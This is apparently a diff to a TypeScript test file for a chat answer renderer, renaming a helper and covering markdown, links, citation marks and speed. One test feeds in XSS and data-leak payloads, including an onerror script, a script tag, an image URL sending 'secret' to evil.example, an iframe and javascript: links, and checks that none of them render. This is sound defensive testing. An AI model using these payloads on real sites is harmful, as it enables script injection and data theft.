@@ -20,7 +20,7 @@ const citing = (text: string, more: Partial<CitationFragment> = {}): CitationFra
   verdict: "VERIFIED",
   ...more,
 });
-const draw = async (text: string, citations: readonly CitationFragment[] = []) => {
+const renderAnswer = async (text: string, citations: readonly CitationFragment[] = []) => {
   const { container } = await render(
     <MemoryRouter>
       <Answer citations={citations}>{text}</Answer>
@@ -31,7 +31,7 @@ const draw = async (text: string, citations: readonly CitationFragment[] = []) =
 
 describe("Cara's answers", () => {
   it("render lists, tables and emphasis", async () => {
-    await draw("Two **things**:\n\n1. one\n2. two\n\n| Limit | Page |\n|---|---|\n| $1,000,000 | 7 |");
+    await renderAnswer("Two **things**:\n\n1. one\n2. two\n\n| Limit | Page |\n|---|---|\n| $1,000,000 | 7 |");
     await expect.element(page.getByText("things")).toHaveStyle({ fontWeight: "700" });
     expect(page.getByRole("listitem").elements()).toHaveLength(2);
     await expect.element(page.getByRole("cell", { name: "$1,000,000" })).toBeVisible();
@@ -41,7 +41,7 @@ describe("Cara's answers", () => {
     const asked: string[] = [];
     const seen = new PerformanceObserver((list) => asked.push(...list.getEntries().map(({ name }) => name)));
     seen.observe({ type: "resource" });
-    const box = await draw(
+    const box = await renderAnswer(
       '<img src="https://evil.example/a.png" onerror="alert(1)"><script>alert(1)</script>\n\n![leak](https://evil.example/x.png?d=secret)\n\n<iframe src="https://evil.example"></iframe>\n\n[a](javascript:alert(1)) [b](data:text/html,x)',
     );
     expect(box.querySelectorAll("img, script, iframe, object, embed, link, style, video, audio")).toHaveLength(0);
@@ -55,7 +55,7 @@ describe("Cara's answers", () => {
   });
 
   it("show the target of a link, and open it in a new tab", async () => {
-    const box = await draw("See [our carrier](https://carrier.example/x) or https://plain.example/y");
+    const box = await renderAnswer("See [our carrier](https://carrier.example/x) or https://plain.example/y");
     const [first, second] = box.querySelectorAll("a");
     expect(first?.getAttribute("rel")).toBe("noopener noreferrer");
     expect(first?.getAttribute("target")).toBe("_blank");
@@ -65,7 +65,7 @@ describe("Cara's answers", () => {
   });
 
   it("a quote that was found is marked and links to its page", async () => {
-    const box = await draw(TEXT, [citing(TEXT)]);
+    const box = await renderAnswer(TEXT, [citing(TEXT)]);
     expect(box.querySelector("mark")?.textContent).toBe("Each Occurrence Limit $1,000,000");
     // the chip needs no brackets around it
     expect(box.textContent).toMatch(/^It says “Each Occurrence Limit \$1,000,000” Verified: gl\.pdfp\. 7\.$/u);
@@ -76,7 +76,7 @@ describe("Cara's answers", () => {
 
   it("a quote is shown as found where the file's name has brackets of its own", async () => {
     const text = `“Each Occurrence Limit” ([\\[Policy\\] gl.pdf, page 7](/files/${FILE}#page=7))`;
-    await draw(text, [citing(text)]);
+    await renderAnswer(text, [citing(text)]);
     await expect
       .element(page.getByRole("link", { name: "Verified: [Policy] gl.pdf p. 7" }))
       .toHaveAttribute("data-evidence", "verified");
@@ -90,7 +90,7 @@ describe("Cara's answers", () => {
     ["behind another one", `(page 7) ${PLACE}`, [citing(TEXT, { placeStart: 0, placeEnd: 8, end: 1 })]],
     ["in a partial answer", TEXT, []],
   ])("a citation %s verifies nothing", async (_, text, citations) => {
-    await draw(text, citations);
+    await renderAnswer(text, citations);
     await expect.element(page.getByRole("link")).toHaveAttribute("data-evidence", "unsure");
   });
 
@@ -98,13 +98,13 @@ describe("Cara's answers", () => {
     ["were not found", [citing(TEXT, { verdict: "UNVERIFIED" })]],
     ["are on their way", []],
   ])("quotes that %s have no mark", async (_, citations) => {
-    const box = await draw(TEXT, citations);
+    const box = await renderAnswer(TEXT, citations);
     expect(box.querySelector("mark")).toBeNull();
   });
 
   it("a very long answer is shown as plain text, immediately", async () => {
     const started = performance.now();
-    const box = await draw("**word** ".repeat(12_000));
+    const box = await renderAnswer("**word** ".repeat(12_000));
     noteTiming(performance.now() - started, 1_500);
     expect(box.textContent).toContain("**word** **word**");
   });
